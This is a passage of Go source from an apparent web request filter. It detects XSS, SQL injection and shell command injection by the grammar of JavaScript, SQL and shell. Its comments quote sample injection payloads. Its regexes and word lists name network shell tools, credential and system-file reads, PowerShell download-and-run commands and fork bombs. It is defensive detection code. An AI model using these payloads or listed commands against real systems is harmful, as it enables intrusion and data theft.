package filter

import (
	"regexp"
	"slices"
	"strings"
)

// Grammar detectors: attack shapes recognised by the language they are
// written in (JavaScript expressions, SQL fragments, shell and batch command
// lines, template expressions) rather than by the tags and keywords of the
// older detectors. Each runs after a bit test on the value's classes.

// XSS without markup: JavaScript that calls something it reached without
// spelling its name (window['al'+'ert'](1), top[/al/.source+/ert/.source]),
// tagged template calls (alert`1`), and JSFuck-style expressions built from
// []()!+ only. Such shapes do not occur in prose or in ordinary data.
var (
	reJSBracketCall = regexp.MustCompile(`\b(?:window|self|top|parent|this|globalthis|frames|content|document|opener)\s*\[[^\]]{1,120}\]\s*(?:\(|\x60)|\[\s*(?:["'\x60][^"'\x60]{0,20}["'\x60]|/[^/]{1,20}/\.source)\s*\+\s*(?:["'\x60][^"'\x60]{0,20}["'\x60]|/[^/]{1,20}/\.source)[^\]]{0,80}\]\s*(?:\(|\x60)`)
	reJSTemplCall   = regexp.MustCompile(`\b(?:alert|prompt|confirm|eval|print|fetch|import|settimeout|setinterval|function|atob|open|write|writeln|location\.assign|location\.replace)\x60|\. ?(?:call|apply|bind) ?\x60|\x60[^\x60]{0,40}\$\{ ?(?:alert|prompt|confirm|eval|top|self|window|document|navigation|location)\b`)
	// A comment inside a member expression of a browser global
	// (document/*x*/.cookie): only obfuscation writes that.
	reJSCommentMember = regexp.MustCompile(`\b(?:document|window|self|top|parent|location|globalthis)\)? ?/\*[^*]{0,40}\*/ ?(?:\.|\[|\))`)
	// An expression statement closing a JavaScript string in a script
	// context: '-alert(1)-', ";alert(1)//, \';confirm(1)// …
	reJSStringBreak = regexp.MustCompile(`['"\x60] ?(?:[-+*/^|&;,]|\)|\}) ?(?:alert|prompt|confirm|eval|print|fetch|import|settimeout|setinterval|atob|document\.write|location ?=|window\.open)\b ?(?:\(|\x60|=)`)
)

// reCSSActive: CSS that runs script or loads a binding.
var reCSSActive = regexp.MustCompile(`: ?expression ?\(|-moz-binding ?: ?url|\bbehavior ?: ?url ?\(|: ?url ?\( ?["']? ?(?:javascript|vbscript):`)

// jsfuckRun reports a run of at least 12 characters made only of []()!+
// with all of [ ] ( ) ! present: the JSFuck alphabet. Nothing else writes
// that.
func jsfuckRun(s string) bool {
	run, mask := 0, 0
	for i := 0; i < len(s); i++ {
		bit := 0
		switch s[i] {
		case '[':
			bit = 1
		case ']':
			bit = 2
		case '(':
			bit = 4
		case ')':
			bit = 8
		case '!', '+':
			bit = 16
		}
		if bit == 0 {
			run, mask = 0, 0
			continue
		}
		run++
		mask |= bit
		if run >= 12 && mask&31 == 31 {
			return true
		}
	}
	return false
}

// jsfuckValue reports a whole value that is one JSFuck expression: arrays
// ([]), grouping and calls (( )), member access ([…] after an operand),
// and the operators ! and + (a space standing for a form-decoded +),
// with at least two operators, one of them a real ! or +: !![], +!![],
// ([]+[])[+[]], [][(![] [])[ []]]. Markdown's ![]() (one operator), [ ]
// check boxes and [] [] (no operator character) do not parse or do not
// count.
func jsfuckValue(s string) bool {
	s = strings.Trim(s, " ")
	if len(s) < 4 {
		return false
	}
	p := jsfParser{s: s}
	if !p.expr(0) || p.i != len(s) {
		return false
	}
	return p.ops >= 2 && p.real
}

// jsfParser parses the JSFuck grammar of jsfuckValue:
//
//	expr    = unary { ("+" | " ") unary }
//	unary   = { "!" | "+" | " " } postfix
//	postfix = primary { "[" expr "]" | "(" [expr] ")" }
//	primary = "[" [expr] "]" | "(" expr ")"
//
// Nesting deeper than jsfMaxDepth is rejected.
type jsfParser struct {
	s    string
	i    int
	ops  int
	real bool
}

const jsfMaxDepth = 64

func (p *jsfParser) peek() byte {
	if p.i < len(p.s) {
		return p.s[p.i]
	}
	return 0
}

func (p *jsfParser) expr(depth int) bool {
	if depth > jsfMaxDepth || !p.unary(depth) {
		return false
	}
	for c := p.peek(); c == '+' || c == ' '; c = p.peek() {
		p.i++
		p.op(c)
		if !p.unary(depth) {
			return false
		}
	}
	return true
}

func (p *jsfParser) op(c byte) {
	p.ops++
	if c != ' ' {
		p.real = true
	}
}

func (p *jsfParser) unary(depth int) bool {
	for c := p.peek(); c == '!' || c == '+' || c == ' '; c = p.peek() {
		p.i++
		p.op(c)
	}
	if !p.primary(depth) {
		return false
	}
	for {
		switch p.peek() {
		case '[':
			p.i++
			if !p.expr(depth+1) || p.peek() != ']' {
				return false
			}
			p.i++
		case '(':
			p.i++
			if p.peek() != ')' && !p.expr(depth+1) || p.peek() != ')' {
				return false
			}
			p.i++
		default:
			return true
		}
	}
}

func (p *jsfParser) primary(depth int) bool {
	switch p.peek() {
	case '[':
		p.i++
		if p.peek() != ']' && !p.expr(depth+1) || p.peek() != ']' {
			return false
		}
	case '(':
		p.i++
		if !p.expr(depth+1) || p.peek() != ')' {
			return false
		}
	default:
		return false
	}
	p.i++
	return true
}

// reDOMWrite: a value that is one assignment to a DOM property that
// writes markup, text, a URL or a cookie, through a browser global and a
// chain of members, calls and subscripts, or straight to document.cookie,
// document.domain or a global's location
// (document.querySelector("p").textContent="x",
// window.frames[0].location.href='…', document.body.innerHTML+=…).
var reDOMWrite = regexp.MustCompile(`^ ?(?:(?:document|window|top|self|parent|frames|globalthis)(?: ?\. ?[a-z_$][\w$]{0,40}(?: ?\([^()]{0,80}\))?| ?\[[^\[\]]{1,80}\])+ ?\. ?(?:innerhtml|outerhtml|textcontent|innertext|outertext|srcdoc|src|href|cookie|location|domain|action|formaction|onclick|onerror|onload)|document ?\. ?(?:cookie|domain|location)|(?:window|top|self|parent|frames|globalthis) ?\. ?location) ?\+?= ?[^=\s]`)

// HTML that loads active content without script: plug-in and frame
// elements with a source, style sheets pulled in by <link> or @import,
// CSS that runs code, and a control character right after '<' (browsers
// and sanitisers disagree on it).
var (
	reHTMLLoader = regexp.MustCompile(`<(?:object|embed|applet)\b[^>]*\b(?:data|src|code|codebase|archive|movie)\s*=|<(?:iframe|frame|portal)\b[^>]*\bsrc\s*=\s*["']?\s*(?://|\\\\|/\\|(?:javascript|vbscript|data|blob|filesystem):)|<link\b[^>]*\brel\s*=\s*["']?(?:stylesheet|import|prefetch|preload|prerender)\b[^>]*\bhref\s*=|<style\b[^>]*>[^<]*(?:@import|expression\s*\(|javascript:|behavior\s*:|-moz-binding)|<(?:object|embed)\b[^>]*\btype\s*=\s*["']?(?:text/html|image/svg|application/x-shockwave)`)
)

// ctrlAfterLT: '<', then C0 control characters (not the line breaks and
// tabs of formatted text), then a letter or '/'.
func ctrlAfterLT(d string) bool {
	for i := 0; i+2 < len(d); i++ {
		if d[i] != '<' {
			continue
		}
		j := i + 1
		for j < len(d) && d[j] < 0x20 && d[j] != '\n' && d[j] != '\r' && d[j] != '\t' || j < len(d) && d[j] == 0x7f {
			j++
		}
		if j > i+1 && j < len(d) && (d[j]|0x20 >= 'a' && d[j]|0x20 <= 'z' || d[j] == '/' || d[j] == '!') {
			return true
		}
	}
	return false
}

// jsBracketCall is reJSBracketCall except in Markdown links ("this
// [page](https://…)", "the parent [docs/](../)"): a link target right
// after "](" (an anchor, a relative path, a URL) is no argument list that
// JavaScript parses, so nothing is called.
func jsBracketCall(n string) bool {
	if !reJSBracketCall.MatchString(n) {
		return false // FindAll allocates even when nothing matches
	}
	for _, m := range reJSBracketCall.FindAllStringIndex(n, -1) {
		if !markdownLinkTarget(n, m[1]) {
			return true
		}
	}
	return false
}

// markdownLinkTarget: n[:end] ends in "](" and a link target follows. A
// path starting with '/' counts unless it reads as a regular expression
// literal (/x/, /x/g), which a call may take.
func markdownLinkTarget(n string, end int) bool {
	if end < 2 || n[end-1] != '(' || n[end-2] != ']' {
		return false
	}
	t := n[end:]
	switch {
	case strings.HasPrefix(t, "#"), strings.HasPrefix(t, "./"), strings.HasPrefix(t, "../"),
		strings.HasPrefix(t, "http://"), strings.HasPrefix(t, "https://"), strings.HasPrefix(t, "mailto:"):
		return true
	case strings.HasPrefix(t, "/") && len(t) > 1 && t[1] != '/' && t[1] != '*':
		t, _, _ = strings.Cut(t, ")")
		last := strings.LastIndexByte(t, '/')
		return last == 0 || strings.Trim(t[last+1:], "dgimsuvy") != ""
	}
	return false
}

// jsTemplCall is reJSTemplCall except where the backtick closes Markdown
// inline code around the name (`DB.Open`, `promptui.Prompt`,
// `FUNCTION`): going back over the name and its dotted members reaches the
// backtick that opened the span. A tag glued to a backtick before it would
// follow a template literal, which JavaScript does not parse.
func jsTemplCall(n string) bool {
	if !reJSTemplCall.MatchString(n) {
		return false
	}
	for _, m := range reJSTemplCall.FindAllStringIndex(n, -1) {
		if n[m[1]-1] != '`' {
			return true // a template that interpolates a global
		}
		i := m[0]
		for i > 0 && (isWordByte(n[i-1]) || n[i-1] == '.' || n[i-1] == '$') {
			i--
		}
		if i == 0 || n[i-1] != '`' {
			return true
		}
	}
	return false
}

// detectXSSGrammar runs the JavaScript-expression and loader checks.
func detectXSSGrammar(e *emitter, v *value) {
	n := v.norm
	if v.cls&(cBracket|cBacktick) != 0 {
		if v.cls&cBracket != 0 && v.cls&(cParen|cBacktick) != 0 && jsBracketCall(n) {
			e.hit(rXSSJSExpr)
		}
		if v.cls&cBacktick != 0 && jsTemplCall(n) {
			e.hit(rXSSJSExpr)
		}
		if v.cls&cBracket != 0 && v.cls&cParen != 0 && v.cls&cBang != 0 && jsfuckRun(v.dec) {
			e.hit(rXSSJSExpr)
		}
	}
	if v.cls&cBracket != 0 && v.cls&^(cBracket|cParen|cBang|cPlus|cSpace) == 0 && jsfuckValue(v.dec) {
		e.hit(rXSSJSExpr)
	}
	if v.cls&cDot != 0 && v.cls&cEq != 0 && domGlobalStart(n) && reDOMWrite.MatchString(n) && !domSnippet(n) {
		e.hit(rXSSJSExpr)
	}
	if v.cls&cStar != 0 && v.cls&cSlash != 0 && strings.Contains(v.dec, "/*") && strings.Contains(v.dec, "*/") && hasAny(n, jsGlobalWords) && reJSCommentMember.MatchString(strings.ToLower(v.dec)) {
		e.hit(rXSSJSExpr)
	}
	if v.kw&kwXSSElement != 0 && v.cls&cLT == 0 && v.cls&cColon != 0 && reCSSActive.MatchString(n) {
		// A style value injected without markup (style=…, a CSS field).
		e.hit(rXSSElement)
	}
	if v.cls&cQuote|v.cls&cBacktick != 0 && v.cls&cParen|v.cls&cBacktick|v.cls&cEq != 0 && hasAny(n, jsBreakWords) && reJSStringBreak.MatchString(n) {
		e.hit(rXSSJSExpr)
	}
	if v.cls&cLT != 0 {
		if v.cls&cEq != 0 || strings.Contains(n, "<style") {
			if reHTMLLoader.MatchString(n) {
				e.hit(rXSSElement)
			}
		}
		if v.cls&cCtrl != 0 && v.kind != KindBodyRaw && ctrlAfterLT(v.raw) {
			e.hit(rXSSElement)
		}
	}
}

// SQL fragments without a quote: what an attacker appends to a numeric
// parameter (1 AND 1=1, 1 ORDER BY 3--, 1 AND SLEEP(5)), bare probing
// statements (SELECT @@version, catalogue queries of every dialect),
// T-SQL batches (DECLARE … EXEC(…)).
var (
	// A boolean operator and a comparison of literals at the start of the
	// value or after a number, ending the value or followed by a comment.
	reSQLFragBool = regexp.MustCompile(`^(?:-?\d+\)* ?|\) ?)?(?:and|or|xor|&&|\|\|) ?\(? ?(?:\d+|[a-z_]\w{0,30}|'[^']*'|"[^"]*") ?(?:=|<>|!=|<=?|>=?| like | between \d+ and | is (?:not )?null\b| in ?\() ?\(? ?(?:\d+|[a-z_]\w{0,30}|'[^']*'?|"[^"]*"?|null\b)? ?\)? ?(?:$|--|#|/\*|;)`)
	// A scalar subquery where a field list or an expression goes on:
	// fields=id,(SELECT password FROM users), 1+(select 1 from dual),
	// at the start of the value or after a comma or an operator. The
	// source is a name, not an article of a sentence in parentheses
	// ("(select one from the list)").
	reSQLSubquery = regexp.MustCompile(`^\( ?select (?:top \d+ |distinct |all )?(?:[a-z_*@][\w.*@]*(?:\((?:[\w.*, ]|\([\w.*, ]*\))*\))?|\d+|'[^']*')(?: ?, ?(?:[a-z_*@][\w.*@]*(?:\((?:[\w.*, ]|\([\w.*, ]*\))*\))?|\d+|'[^']*'))* from ([a-z_][\w.$]*)`)
	// ORDER BY / GROUP BY with a column number, closed by a comment or
	// after a number or closing quote: column counting.
	// Probing statements of every dialect.
)

// subquery: n holds a scalar subquery whose source is a name, not a
// word of a sentence (reSQLSubquery).
func subquery(n string) bool {
	for off := 0; off < len(n); {
		k := strings.IndexByte(n[off:], '(')
		if k < 0 {
			return false
		}
		i := off + k
		off = i + 1
		if !subqueryLead(n[:i]) {
			continue
		}
		m := reSQLSubquery.FindStringSubmatch(n[i:])
		if m == nil {
			continue
		}
		switch m[1] {
		case "the", "a", "an", "this", "that", "our", "your", "my", "these", "those", "list", "menu", "below", "above", "here", "there", "each", "any", "all":
			continue
		}
		return true
	}
	return false
}

// subqueryLead: before, the text ahead of a parenthesis, ends where an
// expression or a field list takes a value: nothing, a comma, an
// operator, a number, or and/or/in.
func subqueryLead(before string) bool {
	b := strings.TrimRight(before, " ")
	if b == "" {
		return true
	}
	switch c := b[len(b)-1]; {
	case c == ',' || c == '=' || c == '+' || c == '*' || c == '/' || c == '|' || c == '-', c >= '0' && c <= '9':
		return true
	}
	return strings.HasSuffix(b, " and") || strings.HasSuffix(b, " or") || strings.HasSuffix(b, " in") || b == "and" || b == "or" || b == "in"
}

// boolFragmentStart: the value starts with a number, a closing parenthesis
// or a boolean operator, as a fragment appended to a numeric parameter
// does.
func boolFragmentStart(n string) bool {
	c := n[0]
	return c >= '0' && c <= '9' || c == '-' || c == ')' || c == '&' || c == '|' || strings.HasPrefix(n, "and") || strings.HasPrefix(n, "or") || strings.HasPrefix(n, "xor")
}

// reSQLQuoteBoolCall: a word, a closing quote, a boolean operator, a
// function call and a comment that cuts the rest of the query
// (x@y.z' or sqlite_compileoption_used(id)--).
var reSQLQuoteBoolCall = regexp.MustCompile(`\w['"\x60] ?(?:or|and|xor|&&|\|\|) (?:not )?[a-z_]\w* ?\([^()]{0,40}\) ?(?:--|#|/\*)`)

// reSQLJSON: a JSON document as an SQL string literal compared or probed
// with the JSON operators of PostgreSQL, MySQL and SQLite ('{"a":1}' @>
// '…', '[1,2]' ? '1', '{…}'::jsonb < '…', '{…}' -> '$.c' = 7), or a JSON
// function after a boolean operator (or json_extract(…) = 'x'): the
// comparisons JSON-unaware filters do not parse.
var reSQLJSON = regexp.MustCompile(`(?:^|[\s)(])(?:(?:or|and|&&|\|\|) )?'[\[{][^']{0,200}' ?(?:::jsonb? ?)?(?:->>?|#>>?|#-|@>|<@|\?[|&]?|[<>]=?|!?=) ?(?:'|\d|array ?\[)|^ ?(?:or|and|&&|\|\|) (?:not )?json(?:b)?_\w+ ?\(`)

// reSQLCast: a PostgreSQL cast of a column or call to a scalar type, the
// error-based extraction primitive (password::int, (select …)::text).
var reSQLCast = regexp.MustCompile(`(?:\)|\b[a-z_]\w*|'[^']*')::(?:int|int4|int8|integer|bigint|smallint|text|varchar|numeric|jsonb?|boolean|bool|double precision|regclass|oid|xml)(?:$|[^\w:])`)

// sqlCast: a cast as reSQLCast finds it, in a value that is not a path of
// a language with :: scopes (crate::text::Span, std::string): the cast
// ends the name.
func sqlCast(n string) bool { return reSQLCast.MatchString(n) }

// quoteCommentEnd: a one-word value, a quote, then only a comment
// (admin'--, admin' #, id'/*): the literal is closed and the rest of the
// query commented out.
func quoteCommentEnd(n string) bool {
	i := strings.IndexAny(n, "'\"`")
	if i <= 0 || strings.IndexByte(n[:i], ' ') >= 0 || !isWordByte(n[i-1]) {
		return false
	}
	r := strings.TrimLeft(n[i+1:], " ")
	return strings.HasPrefix(r, "--") || strings.HasPrefix(r, "#") || strings.HasPrefix(r, "/*")
}

// reHaving: HAVING with a comparison of numbers, after a number, a quote
// or a parenthesis.
var reHaving = regexp.MustCompile(`(?:^|[\d'")]) ?having \d+ ?(?:=|<|>|<>|!=) ?\d+`)

func havingFragment(n string) bool { return reHaving.MatchString(n) }

// quoteSemicolonEnd: a one-word value (an e-mail, an id) that ends with a
// quote and a statement separator, optionally a comment: it closes the
// literal and the statement.
func quoteSemicolonEnd(n string) bool {
	t := n
	if i := strings.Index(t, "--"); i > 0 {
		t = t[:i]
	} else if i := strings.IndexByte(t, '#'); i > 0 {
		t = t[:i]
	}
	t = strings.TrimRight(t, " ")
	if len(t) < 3 || t[len(t)-1] != ';' {
		return false
	}
	q := t[len(t)-2]
	return (q == '\'' || q == '"' || q == '`') && isWordByte(t[len(t)-3])
}

// detectSQLGrammar flags fragments libinjection and the older shapes do
// not: values that are SQL by grammar, not by a quote.
func detectSQLGrammar(e *emitter, v *value) {
	if v.cls&(cHash|cDash|cStar) != 0 && v.cls&(cQuote|cBacktick) != 0 && quoteCommentEnd(v.dec) {
		// On dec: norm has dropped the comment.
		e.hit(rSQLiFragment)
		return
	}
	n := v.norm
	if v.cls&cColon != 0 && len(n) >= 6 && strings.Contains(n, "::") && sqlCast(n) {
		e.hit(rSQLiFragment)
		return
	}
	if v.cls&cQuote != 0 && (v.cls&(cBrace|cBracket) != 0 || v.kw&kwBool != 0 && v.cls&cParen != 0 && strings.Contains(n, "json")) && strings.IndexByte(n, '\'') >= 0 && reSQLJSON.MatchString(n) {
		e.hit(rSQLiFragment)
		return
	}
	if v.kw&(kwSQLGate|kwSQLFunc) == 0 && v.cls&(cPipe|cAmp|cAt) == 0 {
		return
	}
	if len(n) < 6 {
		return
	}
	if len(n) <= 200 && boolFragmentStart(n) && (v.cls&(cEq|cLT|cGT|cParen) != 0 || strings.Contains(n, " like ") || strings.Contains(n, " between ") || strings.Contains(n, " is ")) && reSQLFragBool.MatchString(n) {
		e.hit(rSQLiFragment)
		return
	}
	if v.cls&cParen != 0 && v.kw&kwSQLGate != 0 && strings.Contains(n, "select ") && subquery(n) {
		e.hit(rSQLiFragment)
		return
	}
	if v.cls&cDigit != 0 && strings.Contains(n, "having ") && havingFragment(n) {
		e.hit(rSQLiFragment)
		return
	}
	if v.cls&cSemi != 0 && v.cls&(cQuote|cBacktick) != 0 && v.cls&cSpace == 0 && quoteSemicolonEnd(n) {
		e.hit(rSQLiFragment)
		return
	}
	if v.cls&cDigit != 0 && strings.Contains(n, " by ") && orderByNumber(n) {
		e.hit(rSQLiFragment)
		return
	}
	if v.cls&cQuote != 0 && v.kw&kwBool != 0 && v.cls&cParen != 0 && (strings.Contains(n, "--") || v.cls&cHash != 0 || strings.Contains(n, "/*")) && reSQLQuoteBoolCall.MatchString(n) {
		e.hit(rSQLiFragment)
		return
	}
	if v.kw&kwSQLProbe != 0 && (anyAnchored(n, v.kw, sqlProbes) || v.cls&cParen != 0 && afterBoolOp(n, v.kw)) {
		e.hit(rSQLiFragment)
	}
}

// Command lines without a separator before them: the value is itself a
// command line (the application runs it, or passes it to sh -c). The
// shapes are those of a shell or cmd.exe, not of prose: an interpreter
// named by its absolute path with arguments, a shell with -c, a reading,
// listing, copying or archiving command on a system directory, a network
// scanner run on a target (nmap -sV 10.0.0.1, masscan -p80 10.0.0.0/8), a command
// behind a prefix that runs it (time, strace, nohup, sudo, env, xargs,
// busybox), batch FOR/IF syntax, process substitution, fork bombs, brace
// expansion, globbed system paths, quote-split command names.
var (
	reCmdLine = regexp.MustCompile(`^(?:(?:` + cmdRunPrefixes + `|env|exec|xargs|busybox|nice|command|builtin) +)*(?:(?:/usr)?(?:/local)?/s?bin/[a-z][\w.+-]{1,30}(?: +[-/~.$"'a-z0-9]|$)|(?:sh|bash|zsh|ksh|dash|csh|tcsh|ash|busybox|python[23]?(?:\.\d+)?|perl|ruby|php|node|lua|pwsh|powershell) +-[a-z]{1,3} +\S|(?:curl|wget) +(?:-[a-z]+ +)*(?:https?|ftp|file)://\S|(?:nc|ncat|netcat|socat|telnet) +(?:-[a-z]+ +)*[\w.-]+ +\d{1,5}\b|(?:cat|head|tail|less|more|base64|xxd|od|strings|ls|ll|find|grep|tar|cp|mv|rm|chmod|chown|du|stat|zcat|zstdcat|bzcat|xzcat|lzcat|lz4cat|zless|zmore|zgrep|(?:gunzip|gzip|bunzip2|bzip2|unxz|xz|zstd|unzstd|lz4) +(?:-[a-z]+ +)*-[a-z]*[cd][a-z]*) +(?:-[a-z]+ +)*/(?:etc|proc|root|home|var|tmp|dev|sys)/|(?:ansible-[a-z]+|chef-[a-z]+|salt-[a-z]+)(?: +[\w./=:@*'"-]+){0,6} *$|cscli +(?:alerts|decisions|bouncers|collections|hub|machines|metrics|parsers|scenarios|lapi|capi|console|config)\b(?: +[\w./=:@*'"-]+){0,5} *$|(?:ansible|knife|visudo|sudoedit)(?: +[\w./=:@*'"-]+){0,3} +-{1,2}[a-z][\w=-]*(?: +[\w./=:@*'"-]+){0,4} *$|(?:ping|nslookup|dig|host|traceroute) +(?:-[a-z] +\d+ +)*[\w-]+(?:\.[\w-]+)+ *$|(?:nmap|masscan|zmap|hping3|arp-scan) +(?:-[\w-]+(?: +\d[\d,-]*)? +)*(?:\d{1,3}(?:\.\d{1,3}){3}(?:/\d{1,2})?|[a-z][\w-]*(?:\.[\w-]+)+|localhost)(?: +-[\w-]+(?: +[\w.,/-]+)?)* *$|(?:whoami|ifconfig|ipconfig|uname -a|id -u|netstat -\w+|systeminfo|tasklist|hostname|printenv|visudo|chef-shell|ansible-console)\s*$)`)
)

// cmdRunPrefixes are the commands that run the command after them (time
// who, sudo ls): reCmdLine takes any number of them, and more (env, nice,
// xargs …) that reRunPrefixed leaves out.
const cmdRunPrefixes = `sudo|nohup|time|strace|ltrace|timeout \d+|ionice|stdbuf -\w+|unbuffer`

// reRunPrefixed: an information, listing or network command behind a
// prefix that runs it, as the whole value (time who, strace ls, nohup id,
// time curl example.org): prose puts no command word after "strace" or
// "nohup" and stops there. nice and env are not among the prefixes here
// ("nice cat" is prose).
var reRunPrefixed = regexp.MustCompile(`^(?:(?:` + cmdRunPrefixes + `) +)+(?:id|who|whoami|ls|ll|ps|pwd|uname|hostname|ifconfig|netstat|curl|wget|bsdtar|nc|ncat|bash|sh|python[23]?|perl)(?: +[-\w./:=@~]+){0,3} *$`)

// reCmdLineWin: cmd.exe and PowerShell command lines at the start of the
// value.
var reCmdLineWin = regexp.MustCompile(`^(?:cmd(?:\.exe)?|command(?:\.com)?) +/[ckr] +\S|^(?:powershell(?:\.exe)?|pwsh(?:\.exe)?) +-\w|^(?:invoke-webrequest|iwr|invoke-restmethod|irm|invoke-expression|iex|start-process|invoke-command|new-object) +(?:-\w|https?://|\S+\.ps1\b|\(|system\.net)`)

// cmdLineStarts are the first words reCmdLine and reCmdLineWin can match
// (command prefixes, shells, interpreters, network and reading commands).
var cmdLineStarts = wordSet("visudo chef-shell ansible-console zcat zstdcat bzcat xzcat lzcat lz4cat zless zmore zgrep gunzip gzip bunzip2 bzip2 unxz xz zstd unzstd lz4 ansible ansible-playbook ansible-vault ansible-galaxy ansible-config ansible-console ansible-doc ansible-inventory ansible-pull chef-client chef-shell chef-run chef-solo chef-vault knife salt-call salt-run salt-key salt-ssh sudoedit cscli sudo nohup time strace ltrace env exec xargs busybox timeout nice ionice command builtin stdbuf unbuffer sh bash zsh ksh dash csh tcsh ash python python2 python3 perl ruby php node lua pwsh powershell powershell.exe pwsh.exe curl wget nc ncat netcat socat telnet cat head tail less more base64 xxd od strings ls ll find grep tar cp mv rm chmod chown du stat ping nslookup dig host traceroute nmap masscan zmap hping3 arp-scan whoami ifconfig ipconfig uname id netstat systeminfo tasklist hostname printenv cmd cmd.exe command.com invoke-webrequest iwr invoke-restmethod irm invoke-expression iex start-process invoke-command new-object")

// cmdStartPair holds the first two bytes of every cmdLineStarts word: most
// values fail this table lookup before any map lookup.
var cmdStartPair = func() *[128][2]uint64 {
	var t [128][2]uint64
	for w := range cmdLineStarts {
		a, b := w[0], w[min(1, len(w)-1)]
		t[a&0x7f][b>>6&1] |= 1 << (b & 63)
	}
	for _, w := range soloCommands {
		a, b := w[0], w[1]
		t[a&0x7f][b>>6&1] |= 1 << (b & 63)
	}
	return &t
}()

// soloCommands are the commands reCmdLine accepts as the whole value; a
// one-word value meets cmdStartPair first, which holds their first bytes.
var soloCommands = []string{"whoami", "ifconfig", "ipconfig", "systeminfo", "tasklist", "hostname", "printenv", "visudo", "chef-shell", "ansible-console"}

func soloCommand(w string) bool { return slices.Contains(soloCommands, w) }

// commandStart: the value begins with a system binary path or with one of
// cmdLineStarts as a whole word; a cheap gate before the regexps.
func commandStart(line string) bool {
	if line == "" {
		return false
	}
	if line[0] == '/' {
		return strings.HasPrefix(line, "/bin/") || strings.HasPrefix(line, "/sbin/") || strings.HasPrefix(line, "/usr/bin/") || strings.HasPrefix(line, "/usr/sbin/") || strings.HasPrefix(line, "/usr/local/")
	}
	k := 0
	for k < len(line) && k < 20 && (line[k] >= 'a' && line[k] <= 'z' || line[k] >= '0' && line[k] <= '9' || line[k] == '-' || line[k] == '.') {
		k++
	}
	if k == 0 || k < len(line) && line[k] != ' ' {
		return false
	}
	if b := line[min(1, k-1)]; b >= 128 || cmdStartPair[line[0]&0x7f][b>>6&1]&(1<<(b&63)) == 0 {
		return false
	}
	if k == len(line) {
		// One word: only the commands that stand alone.
		return soloCommand(line)
	}
	w := line[:k]
	if !cmdLineStarts[w] {
		// python3.10
		if i := strings.IndexByte(w, '.'); i > 0 {
			w = w[:i]
		}
		return cmdLineStarts[w]
	}
	return true
}

// programPath: line is the path of a program and nothing else, a
// program that prints nothing of the host on its own
// (/usr/local/bin/gunicorn, /usr/bin/python3: what telemetry reports as
// an executable and a CI job names as its interpreter). The commands that
// do (/usr/bin/id, /bin/uname) stay command lines.
func programPath(line string) bool {
	if line[0] != '/' || strings.IndexByte(line, ' ') >= 0 {
		return false
	}
	base := line[strings.LastIndexByte(line, '/')+1:]
	return !aloneCmds[base] && !soloPrograms[base]
}

// commandParam: a parameter named for a command the application runs
// (cmd, command, exec, run, shell), where a program's path alone is one.
func commandParam(name string) bool {
	switch strings.ToLower(name) {
	case "cmd", "command", "exec", "execute", "run", "shell", "cmdline", "command_line", "program", "prog", "bin", "binary":
		return true
	}
	return false
}

// soloPrograms print the host's state when run without arguments, like
// aloneCmds.
var soloPrograms = wordSet("printenv systeminfo tasklist hostname getent w last")

// detectRCEGrammar flags command lines recognised by shell and batch
// grammar.
func detectRCEGrammar(e *emitter, v *value) {
	n := v.norm
	if len(n) < 2 {
		return
	}
	sh := n
	if v.cls&(cQuote|cBackslash) != 0 {
		sh = shellForm(v)
	}
	switch v.kind {
	case KindQueryValue, KindBodyValue, KindCookieValue, KindHeaderValue:
		line := strings.TrimLeft(sh, " ")
		if commandStart(line) && (reCmdLine.MatchString(line) || reCmdLineWin.MatchString(line) || reRunPrefixed.MatchString(line)) && !(v.kind == KindHeaderValue && line[0] == '/') && (!programPath(line) || commandParam(v.name)) {
			e.hit(rRCECommandLine)
			return
		}
		if v.cls&(cSemi|cPipe|cAmp) != 0 && strings.HasPrefix(line, "cd ") && cdThenCommand(line) {
			e.hit(rRCECommandLine)
			return
		}
		if v.cls&(cSemi|cPipe|cAmp|cNL) != 0 && hostThenCommand(sh, v) {
			e.hit(rRCECommandLine)
			return
		}
		if v.cls&cBang != 0 && line != "" && line[0] == '!' && historyExpansion(line) {
			e.hit(rRCECommandLine)
			return
		}
		// A command name split by quotes or backslashes ('wh'oami,
		// \ls, "w"get host): only evasion writes a name so.
		if sh != n && !wholeQuoted(n) {
			tok := sh
			if i := strings.IndexByte(sh, ' '); i > 0 {
				tok = sh[:i]
			}
			if tok != n[:min(len(tok), len(n))] && strongCmds[tok] {
				e.hit(rRCECommandLine)
				return
			}
		}
	}
	if v.kw&kwCmdBatch != 0 || v.cls&cPercent != 0 {
		shapes := cmdBatch
		if strings.Contains(n, "if ") && !batchIfAtCommand(n) {
			shapes = cmdBatchNoIf
		}
		if anyAnchored(n, ^uint64(0), shapes) {
			e.hit(rRCECommandLine)
			return
		}
	}
	if v.cls&cPipe != 0 && rePipeShell.MatchString(sh) {
		e.hit(rRCECommandLine)
		return
	}
	if v.cls&(cDash|cColon) != 0 && (reverseShell(sh) || sh != n && reverseShell(n)) {
		e.hit(rRCECommandLine)
		return
	}
	if v.cls&(cQuestion|cStar|cBracket) != 0 && v.cls&cSlash != 0 && v.kind != KindHeaderValue && v.kind != KindUserAgent && globbedSystemPath(n) {
		e.hit(rRCECommandLine)
		return
	}
	if v.cls&(cParen|cBrace|cBracket|cEq) != 0 && v.kind != KindBodyRaw {
		shape := v.kw&kwCmdShape != 0 && anyAnchored(sh, v.kw|keywordsIf(sh != n, sh), cmdShapes) && !jqueryCall(sh) ||
			v.cls&cBrace != 0 && v.cls&cParen != 0 && containsAny(sh, "(){", "() {", "( ){", "( ) {") && reForkBomb.MatchString(sh) ||
			v.cls&cBrace != 0 && v.cls&cComma != 0 && strings.IndexByte(sh, ' ') < 0 && reBraceWord.MatchString(sh)
		if shape {
			e.hit(rRCECommandLine)
		}
	}
}

// historyExpansion reports a value that is only bash history expansions:
// events (!!, !n, !-n, and !$, !^, !* for words of the last command),
// each with optional word designators and modifiers (:0, :$, :2-3, :h,
// :p, :s/a/b/, :gs/a/b/), side by side or separated by spaces. It
// re-runs earlier commands of an interactive shell, so it counts when it
// holds a relative event (!-1), a designator or modifier, or at least two
// events of which one is numbered or a word (!1!2, !!!$); "!!", "!!!!"
// and "!1" alone stay prose.
func historyExpansion(s string) bool {
	s = strings.TrimRight(s, " ")
	events, rel, num, words, desig := 0, 0, 0, 0, 0
	digits := func(i int) int {
		j := i
		for j < len(s) && j-i < 5 && s[j] >= '0' && s[j] <= '9' {
			j++
		}
		return j
	}
	for i := 0; i < len(s); {
		if s[i] == ' ' && events > 0 {
			i++
			continue
		}
		if s[i] != '!' || i+1 >= len(s) {
			return false
		}
		i++
		switch c := s[i]; {
		case c == '!':
			i++
		case c == '-' && i+1 < len(s) && s[i+1] >= '0' && s[i+1] <= '9':
